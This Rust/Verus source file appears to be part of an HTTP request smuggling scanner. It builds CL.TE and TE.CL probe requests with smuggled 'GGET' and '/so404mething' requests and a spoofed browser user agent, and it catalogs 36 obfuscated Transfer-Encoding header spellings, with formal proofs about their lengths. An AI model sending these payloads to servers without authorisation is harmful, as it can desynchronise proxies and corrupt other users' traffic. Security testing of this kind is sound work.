//! The probe requests: one template per attack variant, and the catalog of
//! `Transfer-Encoding` spellings substituted into them.
use vstd::prelude::*;
use vstd::string::*;

use crate::structs::{request_head, AttackType, Config};
use crate::text::{push_radix, radix_digits, replace_text, replaced, same_text, utf8_of};

verus! {

/// User agent of the smuggled requests.
pub const USER_AGENT: &'static str = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/83.0.4103.97 Safari/537.36";

/// The header line that every template carries and that a payload replaces.
pub const CHUNKED_HEADER: &'static str = "Transfer-Encoding: chunked";

/// One chunk holding `A`, then the last chunk.
pub const HONEST_CHUNKS: &'static str = "1\r\nA\r\n0\r\n\r\n";

/// The request smuggled by the method variant with the TE.CL framing.
pub open spec fn gget_request(host: Seq<char>, path: Seq<char>) -> Seq<char> {
    "GGET "@ + path + " HTTP/1.1\r\nHost: "@ + host + "\r\nAccept: */*\r\nContent-Length: 9\r\nUser-Agent: "@
        + USER_AGENT@ + "\r\nAccept-Encoding: gzip\r\n\r\nx="@
}

/// The request smuggled by the path variant with the CL.TE framing, behind
/// the last chunk.
pub open spec fn cl_te_path_body(host: Seq<char>) -> Seq<char> {
    "0\r\n\r\nGET /so404mething HTTP/1.1\r\nHost: "@ + host + "\r\nAccept: */*\r\nUser-Agent: "@
        + USER_AGENT@ + "\r\nAccept-Encoding: gzip\r\nContent-Length: 9\r\n\r\nx="@
}

/// The request smuggled by the path variant with the TE.CL framing.
pub open spec fn te_cl_path_request(host: Seq<char>) -> Seq<char> {
    "GET /so404mething HTTP/1.1\r\nHost: "@ + host + "\r\nAccept: */*\r\nUser-Agent: "@ + USER_AGENT@
        + "\r\nAccept-Encoding: gzip\r\n\r\nx="@
}

/// `payload` as one chunk followed by the last chunk.
pub open spec fn one_chunk(payload: Seq<char>) -> Seq<char> {
    radix_digits(utf8_of(payload).len(), 16) + "\r\n"@ + payload + "\r\n0\r\n\r\n"@
}

/// The body each variant sends.
pub open spec fn attack_body(t: AttackType, host: Seq<char>, path: Seq<char>) -> Seq<char> {
    match t {
        AttackType::ClTe | AttackType::ClTeTime => HONEST_CHUNKS@,
        AttackType::TeClTime => HONEST_CHUNKS@ + "A"@,
        AttackType::ClTeMethod => "0\r\n\r\nG"@,
        AttackType::TeClMethod => one_chunk(gget_request(host, path)),
        AttackType::ClTePath => cl_te_path_body(host),
        AttackType::TeClPath => one_chunk(te_cl_path_request(host)),
    }
}

/// The `Content-Length` each variant declares.
pub open spec fn declared_length(t: AttackType, host: Seq<char>, path: Seq<char>) -> nat {
    match t {
        AttackType::ClTe => 11,
        AttackType::ClTeTime => 4,
        AttackType::TeClTime => 12,
        AttackType::ClTeMethod => 6,
        AttackType::TeClMethod => radix_digits(utf8_of(gget_request(host, path)).len(), 16).len()
            + 2,
        AttackType::ClTePath => utf8_of(cl_te_path_body(host)).len(),
        AttackType::TeClPath => radix_digits(utf8_of(te_cl_path_request(host)).len(), 16).len()
            + 2,
    }
}

/// A complete probe: the configured head, the two conflicting framing
/// headers, a blank line and the variant's body.
pub open spec fn attack_request(t: AttackType, head: Seq<char>, host: Seq<char>, path: Seq<char>) -> Seq<char> {
    head + "Content-Length: "@ + radix_digits(declared_length(t, host, path), 10) + "\r\n"@
        + CHUNKED_HEADER@ + "\r\n\r\n"@ + attack_body(t, host, path)
}

proof fn lemma_digits_short(n: nat, radix: nat)
    requires
        2 <= radix <= 16,
    ensures
        radix_digits(n, radix).len() <= 1 + n / radix,
    decreases n,
{
    if n >= radix {
        let m = n / radix;
        assert(m < n) by (nonlinear_arith)
            requires
                radix >= 2,
                n >= radix,
                m == n / radix,
        ;
        lemma_digits_short(m, radix);
        assert(m >= 1) by (nonlinear_arith)
            requires
                radix >= 2,
                n >= radix,
                m == n / radix,
        ;
        assert(m / radix + 1 <= m) by (nonlinear_arith)
            requires
                radix >= 2,
                m >= 1,
        ;
    }
}

fn one_chunk_text(payload: &String) -> (r: (String, usize))
    ensures
        r.0@ == one_chunk(payload@),
        r.1 == radix_digits(utf8_of(payload@).len(), 16).len() + 2,
{
    let n = payload.as_str().as_bytes().len();
    let mut body = String::new();
    push_radix(&mut body, n, 16);
    let digits = body.as_str().unicode_len();
    proof {
        lemma_digits_short(n as nat, 16);
    }
    body.append("\r\n");
    body.append(payload.as_str());
    body.append("\r\n0\r\n\r\n");
    (body, digits + 2)
}

/// Builds the probe request of variant `t` for `config`.
pub fn generate_requests(t: AttackType, config: &Config) -> (r: String)
    ensures
        r@ == attack_request(t, request_head(config.method@, config.path@, config.headers@), config.host@, config.path@),
{
    let mut request = config.print();
    let host = config.host.as_str();
    let (body, length): (String, usize) = match t {
        AttackType::ClTe => (String::from_str(HONEST_CHUNKS), 11),
        AttackType::ClTeTime => (String::from_str(HONEST_CHUNKS), 4),
        AttackType::TeClTime => {
            let mut b = String::from_str(HONEST_CHUNKS);
            b.append("A");
            (b, 12)
        },
        AttackType::ClTeMethod => (String::from_str("0\r\n\r\nG"), 6),
        AttackType::TeClMethod => {
            let mut p = String::from_str("GGET ");
            p.append(config.path.as_str());
            p.append(" HTTP/1.1\r\nHost: ");
            p.append(host);
            p.append("\r\nAccept: */*\r\nContent-Length: 9\r\nUser-Agent: ");
            p.append(USER_AGENT);
            p.append("\r\nAccept-Encoding: gzip\r\n\r\nx=");
            one_chunk_text(&p)
        },
        AttackType::ClTePath => {
            let mut p = String::from_str("0\r\n\r\nGET /so404mething HTTP/1.1\r\nHost: ");
            p.append(host);
            p.append("\r\nAccept: */*\r\nUser-Agent: ");
            p.append(USER_AGENT);
            p.append("\r\nAccept-Encoding: gzip\r\nContent-Length: 9\r\n\r\nx=");
            let n = p.as_str().as_bytes().len();
            (p, n)
        },
        AttackType::TeClPath => {
            let mut p = String::from_str("GET /so404mething HTTP/1.1\r\nHost: ");
            p.append(host);
            p.append("\r\nAccept: */*\r\nUser-Agent: ");
            p.append(USER_AGENT);
            p.append("\r\nAccept-Encoding: gzip\r\n\r\nx=");
            one_chunk_text(&p)
        },
    };
    request.append("Content-Length: ");
    push_radix(&mut request, length, 10);
    request.append("\r\n");
    request.append(CHUNKED_HEADER);
    request.append("\r\n\r\n");
    request.append(body.as_str());
    request
}

/// `template` with each `Transfer-Encoding: chunked` line replaced by
/// `payload`.
pub fn with_payload(template: &str, payload: &str) -> (r: String)
    ensures
        r@ == replaced(template@, CHUNKED_HEADER@, payload@),
{
    proof {
        reveal_strlit("Transfer-Encoding: chunked");
    }
    replace_text(template, CHUNKED_HEADER, payload)
}

/// The spellings always tried, cheapest and likeliest first.
pub open spec fn low_payloads() -> Seq<Seq<char>> {
    seq![
        "Transfer-Encoding: chunked"@,
        "Transfer-Encoding\t: chunked"@,
        "Transfer-Encoding:\tchunked"@,
        "Transfer-Encoding:\nchunked"@,
        "Transfer-Encoding\r:chunked"@,
        "Transfer-Encoding: CHUNKED"@,
        "Some: thing\nTransfer-Encoding: chunked"@,
        "Transfer-Encoding: chunked\t"@,
        "Transfer-Encoding: chun\tked"@,
        "Transfer-Encoding: chun ked"@,
        "Transfer-Encoding: x"@,
        "TRANSFER_ENCODING: chunked"@,
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: something"@,
        " Transfer-Encoding: chunked"@,
    ]
}

/// The spellings added by the `medium` tier.
pub open spec fn medium_payloads() -> Seq<Seq<char>> {
    seq![
        "transfer-encoding: chunked"@,
        "TRANSFER-ENCODING: chunked"@,
        "TRANSFER-ENCODING: CHUNKED"@,
        "Some: thing\rTransfer-Encoding: chunked"@,
        "Some: thing\n\rTransfer-Encoding: chunked"@,
        "Transfer-Encoding: chun\nked"@,
        "Transfer-Encoding: a chunked a"@,
        "Transfer-Encoding: identity, chunked"@,
        "Transfer-Encoding: chun\x01ked"@,
        "Transfer-Encoding: chun\x1fked"@,
        "\tTransfer-Encoding: chunked"@,
    ]
}

/// The spellings added by the `all` tier.
pub open spec fn extra_payloads() -> Seq<Seq<char>> {
    seq![
        "Transfer-Encoding\n:chunked"@,
        "Transfer-Encoding:\rchunked"@,
        "Transfer-Encoding: \x01chunked"@,
        "Transfer-Encoding: \x1fchunked"@,
        "Some: thing\r\rTransfer-Encoding: chunked"@,
        "Some: thing\n\nTransfer-Encoding: chunked"@,
        "Transfer-Encoding: 'chunked'"@,
        "Transfer-Encoding: `chunked`"@,
        "Transfer-Encoding: \"chunked\""@,
        "Transfer-Encoding: chun\rked"@,
        "Transfer_Encoding: chunked"@,
    ]
}

/// The catalog for a tier name: `medium` and `all` extend the low tier,
/// `all` extends the medium one, any other name gives the low tier.
pub open spec fn payload_catalog(amount: Seq<char>) -> Seq<Seq<char>> {
    low_payloads() + (if amount == "medium"@ || amount == "all"@ {
        medium_payloads()
    } else {
        Seq::empty()
    }) + (if amount == "all"@ {
        extra_payloads()
    } else {
        Seq::empty()
    })
}

/// The texts of a list of string slices.
pub open spec fn texts(v: Seq<&str>) -> Seq<Seq<char>> {
    v.map_values(|p: &str| p@)
}

/// The `Transfer-Encoding` spellings to try, in order, for the tier that
/// `config` names.
pub fn payloads(config: &Config) -> (r: Vec<&'static str>)
    ensures
        texts(r@) == payload_catalog(config.amount_of_payloads@),
{
    let amount = config.amount_of_payloads.as_str();
    let mut v: Vec<&'static str> = Vec::new();
        v.push("Transfer-Encoding: chunked");
        v.push("Transfer-Encoding\t: chunked");
        v.push("Transfer-Encoding:\tchunked");
        v.push("Transfer-Encoding:\nchunked");
        v.push("Transfer-Encoding\r:chunked");
        v.push("Transfer-Encoding: CHUNKED");
        v.push("Some: thing\nTransfer-Encoding: chunked");
        v.push("Transfer-Encoding: chunked\t");
        v.push("Transfer-Encoding: chun\tked");
        v.push("Transfer-Encoding: chun ked");
        v.push("Transfer-Encoding: x");
        v.push("TRANSFER_ENCODING: chunked");
        v.push("Transfer-Encoding: chunked\r\nTransfer-Encoding: something");
        v.push(" Transfer-Encoding: chunked");
    let ghost after_low = v@;
    assert(texts(v@) == low_payloads());
    let medium = same_text(amount, "medium");
    let all = same_text(amount, "all");
    if medium || all {
            v.push("transfer-encoding: chunked");
            v.push("TRANSFER-ENCODING: chunked");
            v.push("TRANSFER-ENCODING: CHUNKED");
            v.push("Some: thing\rTransfer-Encoding: chunked");
            v.push("Some: thing\n\rTransfer-Encoding: chunked");
            v.push("Transfer-Encoding: chun\nked");
            v.push("Transfer-Encoding: a chunked a");
            v.push("Transfer-Encoding: identity, chunked");
            v.push("Transfer-Encoding: chun\x01ked");
            v.push("Transfer-Encoding: chun\x1fked");
            v.push("\tTransfer-Encoding: chunked");
        assert(texts(v@) == low_payloads() + medium_payloads());
    }
    if all {
            v.push("Transfer-Encoding\n:chunked");
            v.push("Transfer-Encoding:\rchunked");
            v.push("Transfer-Encoding: \x01chunked");
            v.push("Transfer-Encoding: \x1fchunked");
            v.push("Some: thing\r\rTransfer-Encoding: chunked");
            v.push("Some: thing\n\nTransfer-Encoding: chunked");
            v.push("Transfer-Encoding: 'chunked'");
            v.push("Transfer-Encoding: `chunked`");
            v.push("Transfer-Encoding: \"chunked\"");
            v.push("Transfer-Encoding: chun\rked");
            v.push("Transfer_Encoding: chunked");
        assert(texts(v@) == low_payloads() + medium_payloads() + extra_payloads());
    }
    assert(texts(v@) == payload_catalog(config.amount_of_payloads@));
    v
}

/// The tiers are nested: the low tier has fourteen spellings and opens the
/// medium tier, which has eleven more and opens the full catalog, which has
/// eleven more again.
pub proof fn lemma_tiers_nested()
    ensures
        payload_catalog("low"@) == low_payloads(),
        low_payloads().len() == 14,
        payload_catalog("medium"@).len() == 25,
        payload_catalog("all"@).len() == 36,
        payload_catalog("medium"@).subrange(0, 14) == payload_catalog("low"@),
        payload_catalog("all"@).subrange(0, 25) == payload_catalog("medium"@),
{
    reveal_strlit("low");
    reveal_strlit("medium");
    reveal_strlit("all");
    assert("low"@.len() == 3 && "medium"@.len() == 6 && "all"@.len() == 3);
    assert("low"@[0] == 'l' && "all"@[0] == 'a');
    assert("low"@ != "medium"@ && "medium"@ != "all"@ && "low"@ != "all"@);
    assert(payload_catalog("low"@) =~= low_payloads());
    assert(payload_catalog("medium"@) =~= low_payloads() + medium_payloads());
    assert(payload_catalog("all"@) =~= low_payloads() + medium_payloads() + extra_payloads());
    assert(payload_catalog("medium"@).subrange(0, 14) =~= payload_catalog("low"@));
    assert(payload_catalog("all"@).subrange(0, 25) =~= payload_catalog("medium"@));
}

/// Every probe is a request head, a `Content-Length` and a
/// `Transfer-Encoding: chunked` header, a blank line and a body. The honest
/// framing declares exactly its eleven body bytes; the CL.TE timing variant
/// declares seven bytes fewer than it sends; the TE.CL timing variant sends
/// the honest chunked body and one byte after it, and declares that one byte
/// more than the chunked body holds.
pub proof fn lemma_framing(t: AttackType, head: Seq<char>, host: Seq<char>, path: Seq<char>)
    ensures
        attack_request(t, head, host, path) == head + "Content-Length: "@ + radix_digits(
            declared_length(t, host, path),
            10,
        ) + "\r\n"@ + CHUNKED_HEADER@ + "\r\n\r\n"@ + attack_body(t, host, path),
        HONEST_CHUNKS@.len() == 11,
        t == AttackType::ClTe ==> attack_body(t, host, path).len() == declared_length(t, host, path),
        t == AttackType::ClTeTime ==> attack_body(t, host, path).len() == declared_length(t, host, path) + 7,
        t == AttackType::TeClTime ==> attack_body(t, host, path) == HONEST_CHUNKS@ + "A"@
            && attack_body(t, host, path).len() == declared_length(t, host, path)
            && declared_length(t, host, path) == HONEST_CHUNKS@.len() + 1,
{
    reveal_strlit("1\r\nA\r\n0\r\n\r\n");
    reveal_strlit("A");
}


/// A request written in a file with visible escapes: the file's own line
/// breaks are dropped, then `\r`, `\n` and `\t` become the characters they
/// name.
pub open spec fn unescaped(text: Seq<char>) -> Seq<char> {
    replaced(
        replaced(
            replaced(replaced(replaced(text, "\r"@, ""@), "\n"@, ""@), "\\r"@, "\r"@),
            "\\n"@,
            "\n"@,
        ),
        "\\t"@,
        "\t"@,
    )
}

/// Turns a request written with visible escapes into the bytes to send.
pub fn unescape_request(text: &str) -> (r: String)
    ensures
        r@ == unescaped(text@),
{
    proof {
        reveal_strlit("\r");
        reveal_strlit("\n");
        reveal_strlit("\\r");
        reveal_strlit("\\n");
        reveal_strlit("\\t");
    }
    let a = replace_text(text, "\r", "");
    let b = replace_text(a.as_str(), "\n", "");
    let c = replace_text(b.as_str(), "\\r", "\r");
    let d = replace_text(c.as_str(), "\\n", "\n");
    replace_text(d.as_str(), "\\t", "\t")
}

} // verus!
